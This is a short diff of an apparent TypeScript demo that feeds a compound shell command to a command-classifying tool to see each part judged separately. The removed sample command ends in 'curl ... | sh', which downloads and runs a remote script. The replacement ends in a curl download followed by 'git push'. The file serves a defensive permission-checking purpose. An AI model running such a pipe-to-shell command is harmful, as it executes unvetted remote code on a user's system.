@@ -28,7 +28,7 @@ export async function readOnly(host: Host): Promise<void> {
 
 export async function compound(host: Host): Promise<void> {
   section('2. A compound command is judged part by part');
-  const command = 'git status && npm test -- --run && curl -fsS https://example.com/x.sh | sh';
+  const command = 'git status && npm test -- --run && curl -fsS https://example.com/x.sh && git push';
   const result = await host.call('bash_prefix', { command });
   const parts = result['parts'] as { start: number; end: number; class: string; prefix: { kind: string; value?: string } }[];
   for (const part of parts)
